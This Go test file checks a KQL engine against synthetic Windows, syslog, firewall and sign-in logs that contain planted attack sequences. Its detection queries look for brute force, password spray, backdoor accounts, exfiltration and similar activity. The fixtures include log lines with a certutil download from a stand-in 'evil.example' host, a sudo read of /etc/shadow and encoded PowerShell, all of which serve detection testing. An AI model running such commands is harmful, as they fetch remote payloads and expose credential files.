package kql

import (
	"fmt"
	"testing"
	"time"
)

// The detection tables are generated: deterministic background activity plus planted attack
// sequences. Each expected result below was worked out by hand from the generator (the
// comments say how), not by running the engine.

func at(d time.Duration) time.Time { return fixtureNow.Add(d) }

func detectionSource(t testing.TB) *MemSource {
	must := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	se := NewMemTable("SecurityEvent",
		Column{"TimeGenerated", TypeDatetime}, Column{"Computer", TypeString}, Column{"EventID", TypeInt},
		Column{"TargetUserName", TypeString}, Column{"SubjectUserName", TypeString}, Column{"MemberName", TypeString},
		Column{"IpAddress", TypeString}, Column{"LogonType", TypeInt}, Column{"Process", TypeString},
		Column{"CommandLine", TypeString}, Column{"ParentProcessName", TypeString}, Column{"Activity", TypeString})
	hosts := []string{"WS01", "WS02", "WS03", "SRV01"}
	users := []string{"alice", "bob", "carol", "dave", "erin"}
	// background: 200 successful logons, one every 7 minutes over the last day
	for i := 0; i < 200; i++ {
		must(se.Append(at(-24*time.Hour+time.Duration(i)*7*time.Minute), hosts[i%4], 4624, users[i%5], "", "",
			fmt.Sprintf("10.0.1.%d", i%20+1), []int{2, 3, 10}[i%3], "", "", "", "4624 - An account was successfully logged on."))
	}
	// A: 25 failures for admin from 203.0.113.50 every 20 s from 10:00, then a success at 10:09
	for k := 0; k < 25; k++ {
		must(se.Append(at(-2*time.Hour+time.Duration(k)*20*time.Second), "SRV01", 4625, "admin", "", "", "203.0.113.50", 3, "", "", "", "4625 - An account failed to log on."))
	}
	must(se.Append(at(-2*time.Hour+9*time.Minute), "SRV01", 4624, "admin", "", "", "203.0.113.50", 3, "", "", "", "4624 - An account was successfully logged on."))
	// B: a password spray from 198.51.100.7: one failure each for user01..user12 from 07:00
	for k := 0; k < 12; k++ {
		must(se.Append(at(-5*time.Hour+time.Duration(k)*time.Minute), "DC01", 4625, fmt.Sprintf("user%02d", k+1), "", "", "198.51.100.7", 3, "", "", "", "4625 - An account failed to log on."))
	}
	// C: process creations
	must(se.Append(at(-3*time.Hour), "WS02", 4688, "", "alice", "", "", 0, "powershell.exe", "powershell -enc SQBFAFgA", "winword.exe", "4688 - A new process has been created."))
	must(se.Append(at(-1*time.Hour), "WS03", 4688, "", "bob", "", "", 0, "cmd.exe", "whoami /all", "explorer.exe", "4688 - A new process has been created."))
	must(se.Append(at(-30*time.Minute), "WS01", 4688, "", "carol", "", "", 0, "certutil.exe", "certutil -urlcache -split -f http://evil.example/a.exe a.exe", "cmd.exe", "4688 - A new process has been created."))
	// D, E, F: mallory adds a backdoor account to Administrators and clears a log
	must(se.Append(at(-50*time.Minute), "SRV01", 4732, "Administrators", "mallory", "backdoor", "", 0, "", "", "", "4732 - A member was added to a security-enabled local group."))
	must(se.Append(at(-20*time.Minute), "WS03", 1102, "", "mallory", "", "", 0, "", "", "", "1102 - The audit log was cleared."))
	must(se.Append(at(-55*time.Minute), "SRV01", 4720, "backdoor", "mallory", "", "", 0, "", "", "", "4720 - A user account was created."))

	sl := NewMemTable("Syslog", Column{"TimeGenerated", TypeDatetime}, Column{"Computer", TypeString}, Column{"Facility", TypeString},
		Column{"SeverityLevel", TypeString}, Column{"ProcessName", TypeString}, Column{"SyslogMessage", TypeString})
	for i := 0; i < 100; i++ {
		must(sl.Append(at(-20*time.Hour+time.Duration(i)*10*time.Minute), fmt.Sprintf("lnx0%d", 1+i%2), "daemon", "info", "systemd", fmt.Sprintf("Started Session %d of user svc.", i)))
	}
	for k := 0; k < 8; k++ {
		must(sl.Append(at(-4*time.Hour+time.Duration(k)*30*time.Second), "lnx01", "authpriv", "warning", "sshd", fmt.Sprintf("Failed password for invalid user oracle from 192.0.2.10 port %d ssh2", 4000+k)))
	}
	for k := 0; k < 4; k++ {
		must(sl.Append(at(-4*time.Hour+4*time.Minute+time.Duration(k)*30*time.Second), "lnx01", "authpriv", "warning", "sshd", fmt.Sprintf("Failed password for root from 192.0.2.10 port %d ssh2", 4100+k)))
	}
	must(sl.Append(at(-4*time.Hour+10*time.Minute), "lnx01", "authpriv", "info", "sshd", "Accepted password for root from 192.0.2.10 port 5000 ssh2"))
	for k := 0; k < 2; k++ {
		must(sl.Append(at(-6*time.Hour+time.Duration(k)*time.Minute), "lnx02", "authpriv", "warning", "sshd", fmt.Sprintf("Failed password for alice from 10.0.1.5 port %d ssh2", 6000+k)))
	}
	must(sl.Append(at(-3*time.Hour), "lnx02", "authpriv", "notice", "sudo", "  alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/cat /etc/shadow"))
	must(sl.Append(at(-2*time.Hour), "lnx01", "cron", "info", "crontab", "(root) REPLACE (root)"))

	cs := NewMemTable("CommonSecurityLog", Column{"TimeGenerated", TypeDatetime}, Column{"DeviceVendor", TypeString}, Column{"DeviceProduct", TypeString},
		Column{"Activity", TypeString}, Column{"SourceIP", TypeString}, Column{"DestinationIP", TypeString}, Column{"DestinationPort", TypeInt},
		Column{"DeviceAction", TypeString}, Column{"SentBytes", TypeLong}, Column{"ReceivedBytes", TypeLong}, Column{"RequestURL", TypeString})
	for i := 0; i < 150; i++ {
		must(cs.Append(at(-12*time.Hour+time.Duration(i)*4*time.Minute), "Palo Alto Networks", "PAN-OS", "TRAFFIC", fmt.Sprintf("10.0.1.%d", i%30+1),
			fmt.Sprintf("93.184.216.%d", i%10+1), 443, "allow", 1000+i, 5000+i, ""))
	}
	for k := 0; k < 5; k++ {
		must(cs.Append(at(-2*time.Hour+time.Duration(k)*5*time.Minute), "Palo Alto Networks", "PAN-OS", "TRAFFIC", "10.0.1.99", "185.220.101.5", 443, "allow", 50_000_000, 2000, ""))
	}
	for k := 0; k < 25; k++ {
		must(cs.Append(at(-90*time.Minute+time.Duration(k)*2*time.Second), "Palo Alto Networks", "PAN-OS", "TRAFFIC", "10.0.1.66", "10.0.2.10", 20+k, "deny", 60, 0, ""))
	}
	must(cs.Append(at(-6*time.Hour), "Palo Alto Networks", "PAN-OS", "TRAFFIC", "10.0.1.5", "198.51.100.7", 443, "allow", 3000, 4000, ""))

	si := NewMemTable("SigninLogs", Column{"TimeGenerated", TypeDatetime}, Column{"UserPrincipalName", TypeString}, Column{"AppDisplayName", TypeString},
		Column{"IPAddress", TypeString}, Column{"Location", TypeString}, Column{"ResultType", TypeString}, Column{"ConditionalAccessStatus", TypeString},
		Column{"RiskLevelDuringSignIn", TypeString}, Column{"DeviceDetail", TypeDynamic}, Column{"LocationDetails", TypeDynamic})
	win := dyn(`{"operatingSystem":"Windows 10","browser":"Edge"}`)
	seattle := dyn(`{"city":"Seattle","countryOrRegion":"US"}`)
	for i := 0; i < 120; i++ {
		must(si.Append(at(-30*time.Hour+time.Duration(i)*9*time.Minute), []string{"alice", "bob", "carol"}[i%3]+"@contoso.com", "Office 365",
			fmt.Sprintf("20.1.1.%d", i%10+1), "US", "0", "success", "none", win, seattle))
	}
	for k := 0; k < 10; k++ {
		must(si.Append(at(-5*time.Hour+time.Duration(k)*time.Minute), fmt.Sprintf("u%d@contoso.com", k+1), "Azure Portal", "198.51.100.7", "NL", "50126", "notApplied", "none",
			dyn(`{"operatingSystem":"Linux","browser":"python-requests"}`), dyn(`{"city":"Amsterdam","countryOrRegion":"NL"}`)))
	}
	must(si.Append(at(-3*time.Hour), "bob@contoso.com", "Office 365", "41.1.1.1", "NG", "0", "success", "none",
		dyn(`{"operatingSystem":"Android","browser":"Chrome"}`), dyn(`{"city":"Lagos","countryOrRegion":"NG"}`)))
	for k := 0; k < 6; k++ {
		must(si.Append(at(-time.Hour+time.Duration(k)*time.Minute), "carol@contoso.com", "Office 365", "102.2.2.2", "US", "500121", "failure", "none", win, seattle))
	}
	must(si.Append(at(-50*time.Minute), "carol@contoso.com", "Office 365", "102.2.2.2", "US", "0", "success", "none", win, seattle))
	must(si.Append(at(-2*time.Hour), "dave@contoso.com", "Azure Portal", "45.3.3.3", "RU", "0", "success", "high",
		dyn(`{"operatingSystem":"Linux","browser":"curl"}`), dyn(`{"city":"Moscow","countryOrRegion":"RU"}`)))
	return NewMemSource(se, sl, cs, si)
}

var detectionQueries = []kqlCase{
	// 25 failures for admin; the spray has one failure per user
	{name: "brute force by account and source", q: `SecurityEvent
| where TimeGenerated > ago(1d) and EventID == 4625
| summarize Failures = count() by TargetUserName, IpAddress, Computer
| where Failures >= 10`, want: `[["admin","203.0.113.50","SRV01",25]]`},
	// last failure 10:08, success 10:09
	{name: "brute force followed by success", q: `let fails = materialize(SecurityEvent | where EventID == 4625
    | summarize Failures = count(), LastFail = max(TimeGenerated) by TargetUserName, IpAddress | where Failures > 5);
let ok = SecurityEvent | where EventID == 4624 | project SuccessTime = TimeGenerated, TargetUserName, IpAddress, Computer;
fails
| join kind=inner ok on TargetUserName, IpAddress
| where SuccessTime > LastFail and SuccessTime - LastFail < 1h
| project TargetUserName, IpAddress, Computer, Failures, Gap = SuccessTime - LastFail`, want: `[["admin","203.0.113.50","SRV01",25,"00:01:00"]]`},
	{name: "password spray", q: `SecurityEvent
| where EventID == 4625
| summarize Users = dcount(TargetUserName), Attempts = count() by IpAddress
| where Users >= 10`, want: `[["198.51.100.7",12,12]]`},
	{name: "encoded powershell", q: `SecurityEvent
| where EventID == 4688 and Process =~ "powershell.exe" and CommandLine has_any ("-enc", "-EncodedCommand")
| project TimeGenerated, Computer, ParentProcessName`, want: `[["2026-11-26T09:00:00Z","WS02","winword.exe"]]`},
	{name: "office app spawns a process", q: `SecurityEvent
| where EventID == 4688
| where ParentProcessName in~ ("WINWORD.EXE", "excel.exe", "outlook.exe")
| summarize count() by Computer`, want: `[["WS02",1]]`},
	{name: "lolbin download", q: `SecurityEvent
| where EventID == 4688
| where Process in~ ("certutil.exe", "bitsadmin.exe", "mshta.exe") and CommandLine has "urlcache"
| extend Url = extract(@"(https?://\S+)", 1, CommandLine)
| project Computer, Url, Host = tostring(parse_url(Url).Host)`, want: `[["WS01","http://evil.example/a.exe","evil.example"]]`},
	{name: "discovery commands", q: `SecurityEvent
| where EventID == 4688
| where CommandLine has_any ("whoami", "net group", "nltest")
| project Computer, CommandLine, SubjectUserName`, want: `[["WS03","whoami /all","bob"]]`},
	// created 11:05, added 11:10
	{name: "new account added to admins", q: `let created = SecurityEvent | where EventID == 4720 | project CreatedAt = TimeGenerated, NewUser = TargetUserName, Creator = SubjectUserName;
let added = SecurityEvent | where EventID == 4732 | project AddedAt = TimeGenerated, NewUser = MemberName, Group = TargetUserName;
created
| join kind=inner added on NewUser
| where AddedAt between (CreatedAt .. CreatedAt + 1h)
| project NewUser, Creator, Group, Delay = AddedAt - CreatedAt`, want: `[["backdoor","mallory","Administrators","00:05:00"]]`},
	{name: "audit log cleared", q: `SecurityEvent | where EventID == 1102 | project TimeGenerated, Computer, SubjectUserName`, want: `[["2026-11-26T11:40:00Z","WS03","mallory"]]`},
	{name: "everything one actor did", q: `SecurityEvent
| where SubjectUserName == "mallory"
| summarize Events = make_set(EventID), Hosts = make_set(Computer) by SubjectUserName
| extend Events = array_sort_asc(Events), Hosts = array_sort_asc(Hosts)`, want: `[["mallory",[1102,4720,4732],["SRV01","WS03"]]]`},
	// i ≡ 2 (mod 3) picks RDP; users by i mod 5: residues mod 15 give 13 or 14 per user
	{name: "rdp logons per user", q: `SecurityEvent
| where EventID == 4624 and LogonType == 10
| summarize RdpLogons = count() by TargetUserName
| sort by TargetUserName asc`, want: `[["alice",13],["bob",13],["carol",14],["dave",13],["erin",13]]`},
	// hosts and users cycle with coprime periods, so every user logs on to all 4 hosts
	{name: "users on many hosts", q: `SecurityEvent
| where EventID == 4624
| summarize Hosts = dcount(Computer) by TargetUserName
| where Hosts > 3
| sort by TargetUserName asc`, want: `[["alice",4],["bob",4],["carol",4],["dave",4],["erin",4]]`},
	{name: "ssh brute force", q: `Syslog
| where ProcessName == "sshd" and SyslogMessage has "Failed password"
| parse SyslogMessage with * "from " SrcIP " port " Port:int " ssh2"
| summarize Attempts = count(), Ports = dcount(Port) by SrcIP, Computer
| where Attempts >= 5`, want: `[["192.0.2.10","lnx01",12,12]]`},
	{name: "ssh invalid users", q: `Syslog
| where SyslogMessage has "invalid user"
| parse SyslogMessage with * "invalid user " User " from " *
| summarize count() by User`, want: `[["oracle",8]]`},
	{name: "ssh success after failures", q: `let fails = Syslog
    | where SyslogMessage startswith "Failed password"
    | parse SyslogMessage with * " from " SrcIP " port " *
    | summarize Fails = count() by SrcIP, Computer;
Syslog
| where SyslogMessage startswith "Accepted"
| parse SyslogMessage with "Accepted " Method " for " User " from " SrcIP " port " *
| join kind=inner fails on SrcIP, Computer
| project Computer, User, SrcIP, Method, Fails`, want: `[["lnx01","root","192.0.2.10","password",12]]`},
	{name: "sudo reads shadow", q: `Syslog
| where ProcessName == "sudo" and SyslogMessage has "/etc/shadow"
| parse SyslogMessage with * "USER=" RunAs " ;" *
| project Computer, RunAs, Who = trim(" ", extract(@"^\s*(\S+)\s*:", 1, SyslogMessage))`, want: `[["lnx02","root","alice"]]`},
	{name: "crontab replaced", q: `Syslog | where ProcessName == "crontab" and SyslogMessage has "REPLACE" | project TimeGenerated, Computer`, want: `[["2026-11-26T10:00:00Z","lnx01"]]`},
	{name: "syslog severity mix", q: `Syslog | summarize count() by SeverityLevel | sort by SeverityLevel asc`, want: `[["info",102],["notice",1],["warning",14]]`},
	{name: "exfiltration volume", q: `CommonSecurityLog
| where DeviceAction == "allow"
| summarize TotalSent = sum(SentBytes) by SourceIP, DestinationIP
| where TotalSent > 100000000`, want: `[["10.0.1.99","185.220.101.5",250000000]]`},
	{name: "port scan", q: `CommonSecurityLog
| where DeviceAction == "deny"
| summarize Ports = dcount(DestinationPort), FirstSeen = min(TimeGenerated) by SourceIP, DestinationIP
| where Ports >= 20`, want: `[["10.0.1.66","10.0.2.10",25,"2026-11-26T10:30:00Z"]]`},
	{name: "traffic to known bad ips", q: `let BadIPs = dynamic(["198.51.100.7", "203.0.113.50"]);
CommonSecurityLog
| where DestinationIP in (BadIPs) or SourceIP in (BadIPs)
| project TimeGenerated, SourceIP, DestinationIP, DeviceAction`, want: `[["2026-11-26T06:00:00Z","10.0.1.5","198.51.100.7","allow"]]`},
	{name: "internal host talks to sprayer", q: `let sprayers = SecurityEvent
    | where EventID == 4625
    | summarize Users = dcount(TargetUserName) by IpAddress
    | where Users >= 10
    | project IP = IpAddress;
CommonSecurityLog
| where DestinationIP in (sprayers)
| summarize Conns = count() by SourceIP, DestinationIP`, want: `[["10.0.1.5","198.51.100.7",1]]`},
	{name: "top talker", q: `CommonSecurityLog | summarize Sent = sum(SentBytes) by SourceIP | top 1 by Sent`, want: `[["10.0.1.99",250000000]]`},
	// 150 background + 5 exfil + 1 bad go out; the 25 scan probes stay inside
	{name: "internal versus external destinations", q: `CommonSecurityLog
| extend Internal = ipv4_is_private(DestinationIP)
| summarize count() by Internal
| sort by Internal asc`, want: `[[false,156],[true,25]]`},
	{name: "entra id password spray", q: `SigninLogs
| where ResultType == "50126"
| summarize Users = dcount(UserPrincipalName), Attempts = count() by IPAddress
| where Users >= 5`, want: `[["198.51.100.7",10,10]]`},
	// background sign-ins run from 30 h to 12 h ago, all from the US
	{name: "sign-in from a new country", q: `let known = SigninLogs
    | where TimeGenerated < ago(8h) and ResultType == "0"
    | summarize KnownCountries = make_set(Location) by UserPrincipalName;
SigninLogs
| where TimeGenerated > ago(8h) and ResultType == "0"
| join kind=inner known on UserPrincipalName
| where not(set_has_element(KnownCountries, Location))
| project UserPrincipalName, Location, IPAddress, City = tostring(LocationDetails.city)`, want: `[["bob@contoso.com","NG","41.1.1.1","Lagos"]]`},
	{name: "mfa fatigue then success", q: `SigninLogs
| where ResultType == "500121"
| summarize Denied = count(), First = min(TimeGenerated) by UserPrincipalName
| join kind=inner (SigninLogs | where ResultType == "0" | project UserPrincipalName, SuccessAt = TimeGenerated, IPAddress) on UserPrincipalName
| where SuccessAt > First
| summarize arg_max(SuccessAt, IPAddress) by UserPrincipalName, Denied`, want: `[["carol@contoso.com",6,"2026-11-26T11:10:00Z","102.2.2.2"]]`},
	{name: "risky sign-ins", q: `SigninLogs
| where RiskLevelDuringSignIn in ("high", "medium")
| extend OS = tostring(DeviceDetail.operatingSystem)
| project UserPrincipalName, IPAddress, Location, OS`, want: `[["dave@contoso.com","45.3.3.3","RU","Linux"]]`},
	// Office 365: 120 + 1 + 6 + 1 = 128 with 6 failures; Azure Portal: 10 + 1 with 10
	{name: "failure rate per app", q: `SigninLogs
| summarize Total = count(), Failed = countif(ResultType != "0") by AppDisplayName
| extend FailRate = round(100.0 * Failed / Total, 1)
| sort by AppDisplayName asc`, want: `[["Azure Portal",11,10,90.9],["Office 365",128,6,4.7]]`},
	{name: "same source fails in cloud and on premises", q: `let aad = SigninLogs | where ResultType != "0" | summarize AadFailures = count() by IP = IPAddress;
let onprem = SecurityEvent | where EventID == 4625 | summarize OnPremFailures = count() by IP = IpAddress;
aad
| join kind=inner onprem on IP
| project IP, AadFailures, OnPremFailures`, want: `[["198.51.100.7",10,12]]`},
	{name: "where one source appears", q: `union withsource=Source SecurityEvent, SigninLogs
| extend IP = coalesce(IpAddress, IPAddress)
| where IP == "198.51.100.7"
| summarize count() by Source
| sort by Source asc`, want: `[["SecurityEvent",12],["SigninLogs",10]]`},
	// failures every 20 s from 10:00:00 to 10:08:00: 15 in the first 5 minutes, 10 after
	{name: "brute force timeline", q: `SecurityEvent
| where EventID == 4625 and IpAddress == "203.0.113.50"
| summarize Failures = count() by bin(TimeGenerated, 5m)
| sort by TimeGenerated asc
| render timechart`, want: `[["2026-11-26T10:00:00Z",15],["2026-11-26T10:05:00Z",10]]`},
	// A's 25 failures 20 s apart, then its success nine minutes after the first failure
	{name: "brute force then success as a scan sequence", q: `SecurityEvent
| where TargetUserName == "admin"
| sort by TimeGenerated asc
| scan with_match_id = m declare (FirstFail: datetime) with (
    step fail: EventID == 4625 => FirstFail = iff(isnull(fail.FirstFail), TimeGenerated, fail.FirstFail);
    step success: EventID == 4624 and TimeGenerated - fail.FirstFail <= 15m => FirstFail = fail.FirstFail;
)
| where EventID == 4624
| project TimeGenerated, Computer, FirstFail, m`, want: `[["2026-11-26T10:09:00Z","SRV01","2026-11-26T10:00:00Z",0]]`},
	// failures per hour since midnight: B's 12 at 07:00, A's 25 at 10:00, none else; only 25 is
	// beyond the average (37/12) plus two standard deviations (about 7.7)
	{name: "failure spike beyond the series' spread", q: `SecurityEvent
| where EventID == 4625
| make-series Failures = count() on TimeGenerated from datetime(2026-11-26T00:00:00Z) to datetime(2026-11-26T12:00:00Z) step 1h
| extend (mn, mnIdx, mx, mxIdx, av, sd) = series_stats(Failures)
| mv-expand Failures to typeof(long), TimeGenerated to typeof(datetime)
| where Failures > av + 2 * sd
| project TimeGenerated, Failures`, want: `[["2026-11-26T10:00:00Z",25]]`},
	// A's failures follow each other 20 s apart (24 gaps); the spray's are one per account
	{name: "rapid repeated failures by account", q: `SecurityEvent
| where EventID == 4625
| sort by TargetUserName asc, TimeGenerated asc
| extend Gap = TimeGenerated - prev(TimeGenerated), Same = TargetUserName == prev(TargetUserName)
| where Same and Gap <= 30s
| summarize Fast = count() by TargetUserName`, want: `[["admin",24]]`},
	{name: "account lookup enrichment", q: `let admins = datatable(Account:string, Role:string)["admin", "Domain Admin", "backdoor", "Local Admin"];
SecurityEvent
| where EventID in (4624, 4720)
| extend Account = iff(EventID == 4720, TargetUserName, TargetUserName)
| lookup kind=inner admins on Account
| summarize Events = count() by Account, Role
| sort by Account asc`, want: `[["admin","Domain Admin",1],["backdoor","Local Admin",1]]`},
}

func TestDetectionQueries(t *testing.T) {
	src := detectionSource(t)
	if len(detectionQueries) < 30 {
		t.Fatalf("only %d detection queries", len(detectionQueries))
	}
	for _, c := range detectionQueries {
		t.Run(c.name, func(t *testing.T) { runCase(t, src, src.Catalog(), c) })
	}
}
